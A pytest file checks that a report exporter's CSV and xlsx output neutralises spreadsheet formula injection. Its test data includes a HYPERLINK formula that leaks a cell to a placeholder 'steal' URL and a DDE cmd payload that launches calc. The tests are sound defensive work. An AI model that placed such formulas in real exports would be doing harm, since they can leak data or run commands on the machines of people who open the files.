"""Exports never carry a live formula (OWASP CSV injection): a name such as ``=HYPERLINK(…)`` (a
clerk's display name, an item's name) is plain text in the xlsx and starts with ' in the CSV, while
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from server.reports.export import to_csv, to_xlsx

FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"查看详情")'
DANGEROUS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def report() -> dict[str, Any]:
    rows = [{"key": f"clerk{i}", "label": label, "tickets": 3, "served": 2, "no_shows": 1, "avg_wait_s": -1.5,
             "within_15": 0.5} for i, label in enumerate(DANGEROUS)]
    total = {"label": "晋安区行政服务中心", "tickets": 18, "served": 12, "no_shows": 6, "avg_wait_s": -1.5}
    return {"period": "day", "from": "2026-11-25", "to": "2026-11-25", "by": "clerk", "rows": rows, "total": total}


def test_csv_cells_that_start_a_formula_are_prefixed_with_a_quote() -> None:
    lines = list(csv.reader(io.StringIO(to_csv(report()).decode("utf-8-sig"))))
    labels = [line[1] for line in lines[1:-1]]
    assert labels == ["'" + label for label in DANGEROUS]
    assert lines[1][2:6] == ["3", "2", "1", "-1.5"]  # numbers, negative ones too, stay as they were
    assert lines[-1][:3] == ["合计", "晋安区行政服务中心", "18"]


def test_xlsx_text_cells_are_strings_never_formulas() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(report()))).active
    assert sheet is not None
    labels = [sheet.cell(row, 2) for row in range(3, 3 + len(DANGEROUS))]
    assert [cell.value for cell in labels] == [label.replace("\r", "\n") for label in DANGEROUS]  # XML's newline
    assert all(cell.data_type == "s" for cell in labels)
    assert not [c.coordinate for line in sheet.iter_rows() for c in line if c.data_type == "f"]
    numbers = sheet.cell(3, 3), sheet.cell(3, 6)
    assert [(c.value, c.data_type) for c in numbers] == [(3, "n"), (-1.5, "n")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plain_names_are_untouched(fmt: str) -> None:
    plain = report()
    plain["rows"] = [dict(plain["rows"][0], label="林晓燕")]
    content = to_csv(plain) if fmt == "csv" else to_xlsx(plain)
    if fmt == "csv":
        assert "\r\nclerk0,林晓燕,3," in content.decode("utf-8-sig")
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        assert sheet is not None and sheet.cell(3, 2).value == "林晓燕"
